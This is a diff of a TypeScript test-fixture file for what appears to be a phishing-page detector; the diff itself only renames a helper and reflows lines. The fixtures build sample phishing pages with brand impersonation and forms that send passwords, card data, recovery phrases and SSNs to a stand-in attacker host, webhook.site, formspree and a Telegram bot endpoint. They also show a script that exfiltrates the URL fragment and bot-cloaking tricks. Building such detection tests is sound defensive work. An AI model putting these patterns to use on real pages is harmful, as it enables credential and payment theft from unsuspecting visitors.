@@ -1,15 +1,15 @@
 import type { GivenDraft } from "./given-draft.ts"
-import { site } from "./innocent-site.ts"
+import { makeSite } from "./innocent-site.ts"
 
 const ours = "Ferry tickets to Skerry"
 const elsewhere = "https://gather.example/"
 const chat = "https://api.telegram.org/bot1:A/sendMessage"
 /** To another site by a script that reads the answer: so the receiver alone is against it. */
-export const sentByScript = (to: string, fields: string) =>
+export const writeScriptedForm = (to: string, fields: string) =>
   `<form id="f">${fields}</form><script>fetch("${to}",{method:"POST",body:new FormData(f)}).then((r)=>r.json())</script>`
 const form = (action: string, fields: string) =>
   action.startsWith(elsewhere)
-    ? sentByScript(action, fields)
+    ? writeScriptedForm(action, fields)
     : `<form action="${action}" method="post">${fields}</form>`
 const login = (action: string) => form(action, `<input type="password" name="p">`)
 const card = (action: string) => form(action, `<input name="cardnumber"><input name="cvv">`)
@@ -17,7 +17,7 @@ const masked = (action: string) =>
   `<style>.x{-webkit-text-security:disc}</style>${form(action, `<input class="x" name="x">`)}`
 const footer = (name: string) => `<footer>© 2026 ${name}</footer>`
 const whole = `<iframe src="${elsewhere}" style="position:fixed;inset:0;height:100%"></iframe>`
-const alone = site("a frame alone", "Netflix", `<iframe src="${elsewhere}"></iframe>`)
+const alone = makeSite("a frame alone", "Netflix", `<iframe src="${elsewhere}"></iframe>`)
 const leaves = `<meta http-equiv="refresh" content="1;url=${elsewhere}">`
 const names = Array.from({ length: 31 }, (_, n) => `_0x${(n + 4096).toString(16)}=1`).join(";")
 
@@ -34,18 +34,22 @@ export const nested = Array.from({ length: 6 }).reduce<string>(
   "<p>Moss</p>",
 )
 
-const messenger = site(
+const messenger = makeSite(
   "a code for a messenger",
   "Vote for Emma",
   `<p>Open WhatsApp, Linked devices, and type <b id="k"></b></p><script>fetch("/k").then((r)=>r.text()).then((t)=>{k.textContent=t})</script>`,
 )
-const besideOwnName = site("card, asks to sign in", ours, `<h1>${ours}</h1><h2>Sign in to Netflix</h2>${card("/pay")}`)
-const linkUnderName = site(
+const besideOwnName = makeSite(
+  "card, asks to sign in",
+  ours,
+  `<h1>${ours}</h1><h2>Sign in to Netflix</h2>${card("/pay")}`,
+)
+const linkUnderName = makeSite(
   "a link under a name",
   "Netflix",
   `<p>Go on.</p><a href="https://moss-films.example/">Next</a>`,
 )
-const storedPhrase = site("a phrase without coins", "Recovery", form("/r", `<input placeholder="Recovery phrase">`))
+const storedPhrase = makeSite("a phrase without coins", "Recovery", form("/r", `<input placeholder="Recovery phrase">`))
 
 /** A rule, and a draft that is flagged and is not without the rule. */
 export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]> = [
@@ -53,10 +57,10 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ["links-messenger-without-name", messenger],
   ["asks-under-sign-in", besideOwnName],
   ["asks-under-sign-in-alone", besideOwnName],
-  ["asks-under-owner", site("card, copyright", ours, `<h1>${ours}</h1>${card(elsewhere)}${footer("Netflix")}`)],
+  ["asks-under-owner", makeSite("card, copyright", ours, `<h1>${ours}</h1>${card(elsewhere)}${footer("Netflix")}`)],
   [
     "asks-under-logo",
-    site(
+    makeSite(
       "card, logo",
       ours,
       `<base href="${elsewhere}"><h1>${ours}</h1><img class="logo" src="l.png" alt="Netflix">${card("pay")}`,
@@ -64,11 +68,11 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "card-with-secret",
-    site("card and PIN", ours, `<h1>${ours}</h1>${form(elsewhere, `<input name="cardnumber"><input name="pin">`)}`),
+    makeSite("card and PIN", ours, `<h1>${ours}</h1>${form(elsewhere, `<input name="cardnumber"><input name="pin">`)}`),
   ],
   [
     "asks-under-sign-in",
-    site("masked, asks to sign in", ours, `<h1>${ours}</h1><h2>Sign in to PayPal</h2>${masked("/in")}`),
+    makeSite("masked, asks to sign in", ours, `<h1>${ours}</h1><h2>Sign in to PayPal</h2>${masked("/in")}`),
   ],
   ["leads-away-under-title", linkUnderName],
   ["leads-away-without-name", linkUnderName],
@@ -76,23 +80,23 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ["phrase-field-without-name", storedPhrase],
   [
     "phrase-asked-above",
-    site(
+    makeSite(
       "a phrase that another sentence stands under",
       "Ledger Live",
       `<h1>Critical firmware update 2.4.1</h1><p>Enter your recovery phrase</p><p>to restore access to your device</p><form action="/r"><textarea name="w"></textarea></form>`,
     ),
   ],
-  ["asks-under-heading", site("masked, heading", ours, `<h1>PayPal ferries</h1>${masked(chat)}`)],
-  ["asks-under-owner", site("masked, copyright", ours, `<h1>${ours}</h1>${masked(chat)}${footer("PayPal")}`)],
+  ["asks-under-heading", makeSite("masked, heading", ours, `<h1>PayPal ferries</h1>${masked(chat)}`)],
+  ["asks-under-owner", makeSite("masked, copyright", ours, `<h1>${ours}</h1>${masked(chat)}${footer("PayPal")}`)],
   [
     "asks-under-near-title",
-    site("masked, title with more words", "PayPal ferries", `${leaves}<h1>${ours}</h1>${masked(chat)}`),
+    makeSite("masked, title with more words", "PayPal ferries", `${leaves}<h1>${ours}</h1>${masked(chat)}`),
   ],
-  ["secret-to-collector", site("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`)],
-  ["secret-to-form-relay", site("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`)],
+  ["secret-to-collector", makeSite("to a collector", ours, `<h1>${ours}</h1>${login("https://webhook.site/1")}`)],
+  ["secret-to-form-relay", makeSite("to a relay", ours, `<h1>${ours}</h1>${login("https://formspree.io/f/1")}`)],
   [
     "papers-to-form-relay",
-    site(
+    makeSite(
       "papers to a relay",
       "Ferry",
       `<h1>Ferry</h1><p>Your account is locked.</p><form action="https://formspree.io/f/1"><input name="ssn"></form>`,
@@ -100,7 +104,7 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "code-under-name",
-    site(
+    makeSite(
       "a code under a name",
       "Ferry",
       `<div>PayPal</div><form action="/in"><input type="password"><input name="otp"></form>`,
@@ -108,18 +112,26 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "company-fields",
-    site("fields of a company", "Ferry", `<form action="/in"><input name="loginfmt"><input type="password"></form>`),
+    makeSite(
+      "fields of a company",
+      "Ferry",
+      `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
+    ),
   ],
   [
     "company-fields-without-name",
-    site("fields of a company", "Ferry", `<form action="/in"><input name="loginfmt"><input type="password"></form>`),
+    makeSite(
+      "fields of a company",
+      "Ferry",
+      `<form action="/in"><input name="loginfmt"><input type="password"></form>`,
+    ),
   ],
   ["frame-over-page", alone],
   ["frame-over-page-under-name", alone],
-  ["frame-over-sign-in", site("a frame to sign in", "Sign in to your account", whole)],
+  ["frame-over-sign-in", makeSite("a frame to sign in", "Sign in to your account", whole)],
   [
     "leaves-with-visitor",
-    site(
+    makeSite(
       "takes its visitor along",
       "Ferry",
       `<script>location="https://gather.example/?e="+btoa(location.hash)</script>`,
@@ -127,24 +139,28 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "for-people-without-tools",
-    site(
+    makeSite(
       "asks only people without tools",
       "Ferry",
       `${leaves}<script>if(/bot|crawl/.test(navigator.userAgent))document.body.innerHTML="";setInterval(()=>{debugger},9)</script>`,
     ),
   ],
-  ["form-to-chat", site("to a chat", ours, `${leaves}<h1>${ours}</h1>${whole}${form(chat, `<input name="x">`)}`)],
+  ["form-to-chat", makeSite("to a chat", ours, `${leaves}<h1>${ours}</h1>${whole}${form(chat, `<input name="x">`)}`)],
   [
     "hidden-frame",
-    site("unseen frame", ours, `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<iframe hidden src="a.html"></iframe>`),
+    makeSite(
+      "unseen frame",
+      ours,
+      `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<iframe hidden src="a.html"></iframe>`,
+    ),
   ],
   [
     "obscured",
-    site("unreadable", ours, `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>var a="b";${names}</script>`),
+    makeSite("unreadable", ours, `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>var a="b";${names}</script>`),
   ],
   [
     "blob-page",
-    site(
+    makeSite(
       "page of a script",
       ours,
       `<h1>${ours}</h1>${login(`${elsewhere}next.php`)}<script>location=URL.createObjectURL(new Blob([a],{type:"text/html"}))</script>`,
@@ -159,7 +175,7 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "logo-by-address",
-    site(
+    makeSite(
       "logo of any company",
       ours,
       `<h1>${ours}</h1><img src="https://logo.clearbit.com/skerry.example">${login(elsewhere)}`,
@@ -167,7 +183,7 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "company-image-under-name",
-    site(
+    makeSite(
       "picture of that company",
       "PayPal ferries",
       `<h1>${ours}</h1><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
@@ -175,11 +191,15 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "choose-mailbox",
-    site("whichever mail", "Ferry list", `<ul><li>Outlook</li><li>Gmail</li><li>Yahoo</li></ul>${login(elsewhere)}`),
+    makeSite(
+      "whichever mail",
+      "Ferry list",
+      `<ul><li>Outlook</li><li>Gmail</li><li>Yahoo</li></ul>${login(elsewhere)}`,
+    ),
   ],
   [
     "asks-under-letterhead",
-    site(
+    makeSite(
       "head of a letter",
       "Ferry tickets",
       `<div>PayPal</div><img src="https://www.paypalobjects.com/a.png">${login("/in")}`,
@@ -187,28 +207,28 @@ export const ruleCases: ReadonlyArray<readonly [rule: string, draft: GivenDraft]
   ],
   [
     "typed-into-address",
-    site("typed into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
+    makeSite("typed into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
   ],
   [
     "secret-into-address",
-    site("secret into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
+    makeSite("secret into an address", ours, `<h1>${ours}</h1>${typedInto(`<input type="password">`)}`),
   ],
   [
     "decoded-and-asks",
-    site("fields and what is decoded", ours, `<h1>${ours}</h1><p>${words}</p><input name="a">${decoded}`),
+    makeSite("fields and what is decoded", ours, `<h1>${ours}</h1><p>${words}</p><input name="a">${decoded}`),
   ],
-  ["letters-in-words", site("letters in words", ours, `<h1>${broken}</h1>${login(elsewhere)}`)],
-  ["title-of-nothing", site("title of nothing", "…", `<h1>${ours}</h1>${typedInto(`<input name="a">`)}`)],
-  ["drops-program", site("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
-  ["drops-program-under-name", site("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
-  ["coins-under-name", site("coins under a name", "Ferry", `<div>Binance</div><p>bc1q${"a".repeat(30)}</p>`)],
+  ["letters-in-words", makeSite("letters in words", ours, `<h1>${broken}</h1>${login(elsewhere)}`)],
+  ["title-of-nothing", makeSite("title of nothing", "…", `<h1>${ours}</h1>${typedInto(`<input name="a">`)}`)],
+  ["drops-program", makeSite("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
+  ["drops-program-under-name", makeSite("program under a name", "Ferry", `<h1>PayPal ferries</h1>${program}`)],
+  ["coins-under-name", makeSite("coins under a name", "Ferry", `<div>Binance</div><p>bc1q${"a".repeat(30)}</p>`)],
   [
     "call-under-name",
-    site(
+    makeSite(
       "call under a name",
       "…",
       `<h1>PayPal desk of the ferries</h1><a href="tel:080000000">call</a><input name="a">`,
     ),
   ],
-  ["deeper-than-read", site("six pages deep", ours, `<h1>${ours}</h1>${login(`${elsewhere}`)}${nested}`)],
+  ["deeper-than-read", makeSite("six pages deep", ours, `<h1>${ours}</h1>${login(`${elsewhere}`)}${nested}`)],
 ]
